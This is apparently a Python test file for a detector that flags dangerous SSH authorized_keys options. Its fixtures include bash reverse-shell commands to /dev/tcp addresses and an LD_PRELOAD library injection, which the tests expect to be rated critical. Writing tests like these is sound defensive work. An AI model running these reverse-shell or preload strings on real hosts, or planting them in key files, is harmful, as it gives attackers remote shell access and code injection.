from __future__ import annotations

from tasks.checks.host.key_runs_command import KeyRunsCommand
from tenantry.sweep.check import Known
from tests.tasks.checks.host._facts import cannot, found, key, survey

CHECK = KeyRunsCommand()


def test_a_key_that_opens_a_shell_or_loads_a_library() -> None:
    keys = (
        key("a", "SHA256:known", 'command="bash -i >& /dev/tcp/203.0.113.9/443 0>&1"'),
        key("b", "SHA256:known", 'environment="LD_PRELOAD=/tmp/x.so"'),
        key("c", "SHA256:other", 'command="/usr/bin/backup"'),
    )
    assert [severity for severity, _ in found(CHECK, survey(keys=keys), Known(keys=frozenset({"known"})))] == [
        "critical",
        "critical",
        "medium",
    ]


def test_what_confines_a_known_key() -> None:
    keys = (key("a", "SHA256:known", 'restrict,command="rrsync -ro /srv"'), key("b", "SHA256:other", "no-pty"))
    assert found(CHECK, survey(keys=keys), Known(keys=frozenset({"known"}))) == []
    off = key("a", "SHA256:x", 'command="bash -i >& /dev/tcp/1.2.3.4/1"', enabled=False)
    assert found(CHECK, survey(keys=(off,))) == []


def test_nothing_there_is_nothing_found() -> None:
    assert found(CHECK, survey()) == []


def test_what_was_not_read_cannot_be_judged() -> None:
    cannot(CHECK, "keys")
